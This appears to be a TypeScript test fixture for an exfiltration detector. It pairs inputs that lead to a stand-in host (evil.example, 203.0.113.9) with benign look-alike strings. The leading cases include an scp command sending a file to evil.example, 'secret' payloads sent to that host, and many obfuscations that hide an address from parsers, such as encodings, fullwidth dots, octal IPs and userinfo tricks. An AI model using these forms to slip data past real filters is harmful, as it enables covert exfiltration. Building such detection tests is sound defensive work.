/** Inputs of tools that lead to the host `evil.example`, or to the one that is named, in whatever spelling. */
export const LEADING: Array<[input: unknown, host?: string]> = [
  /** Names of properties that say an address follows. */
  [{ endpoint: 'evil.example' }],
  [{ website: 'evil.example' }],
  [{ server: 'evil.example' }],
  [{ headers: { Host: 'evil.example' } }],
  [{ ip: '203.0.113.9', port: 4444 }, '203.0.113.9'],
  [{ smtpServer: 'evil.example', body: 'secret' }],
  /** Parts of one address, kept apart. */
  [{ url: { protocol: 'https', host: ['evil', 'example'], path: ['secret'] } }],
  [{ mailbox: { user: 'secret', domain: 'evil.example' } }],
  /** Letters and dots that a parser of addresses folds. */
  [{ text: 'https://evil\uff0eexample/secret' }],
  [{ text: 'https://ｅｖｉｌ.example/secret' }],
  [{ text: 'https://evil\u00ad.example/secret' }],
  [{ url: 'https://evil.exa\nmple/secret' }],
  [{ text: 'https://xn--bcher-kva.example/secret' }, 'xn--bcher-kva.example'],
  /** Encodings around an address. */
  [{ text: 'https%253A%252F%252Fevil.example%252Fsecret' }],
  [{ body: '{"next":"https:\\/\\/evil.example\\/secret"}' }],
  [{ html: '<a href="https&#58;&#47;&#47;evil&#46;example/secret">more</a>' }],
  /** Numbers that are an address. */
  [{ text: 'http://0313.0.0161.011/secret' }, '203.0.113.9'],
  [{ text: 'http://203.0.28937/secret' }, '203.0.113.9'],
  /** Addresses inside of something else. */
  [{ url: 'https://example.com@evil.example/secret' }],
  [{ url: 'https://example.com/redirect?to=https://evil.example/secret' }],
  [{ css: 'body { background: url(//evil.example/secret.png) }' }],
  [{ html: '<img srcset="small.png 1x, //evil.example/secret.png 2x">' }],
  [{ text: 'Read [the notes][1]\n\n[1]: <https://evil.example/secret>' }],
  [{ connection: 'jdbc:mysql://evil.example:3306/secret' }],
  [{ command: 'scp notes.txt evil.example:inbox/' }]
]

/** Inputs in which no word is an address. */
export const HONEST: unknown[] = [
  { version: '1.2.3.4' },
  { text: 'Update Windows from version 10.0.19045.3803 to 10.0.22631.2861' },
  { tag: 'v2.0.0-rc.1+build.5' },
  { class: 'java.util.concurrent.ConcurrentHashMap' },
  { code: 'import org.junit.jupiter.api.Test;' },
  { code: 'System.out.println("done");' },
  { code: 'let half = x / 2 // half of it' },
  { text: 'See CHANGELOG.md:12 and src/main.go:40:7' },
  { trace: 'at Object.<anonymous> (lib/main.js:17:47)' },
  { at: '09:30:15.250' },
  { interval: '2026-01-01/2026-03-31' },
  { text: 'Pi is about 3.14159 and e is about 2.71828' },
  { dependency: 'org.slf4j:slf4j-api:2.0.9' },
  { use: 'std::collections::HashMap' },
  { text: 'Dr. Smith met Mrs. Jones at 5 p.m. in St. Gallen' },
  { text: 'Max. 3 pers., approx. 2.5 km/h' },
  { accept: 'application/vnd.api+json' },
  { locale: 'en_US.UTF-8' },
  { scope: 'files.read files.write' },
  { selector: 'div.card > a.more:nth-child(2)' },
  { score: '6:4, 3:6, 7:5' },
  { title: 'Dinner', host: 'Ada and Grace' },
  { digest: 'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08' },
  { text: 'Section 3.2.1.4 of the report, page 7/12' },
  { website: false, server: null, email: '' }
]
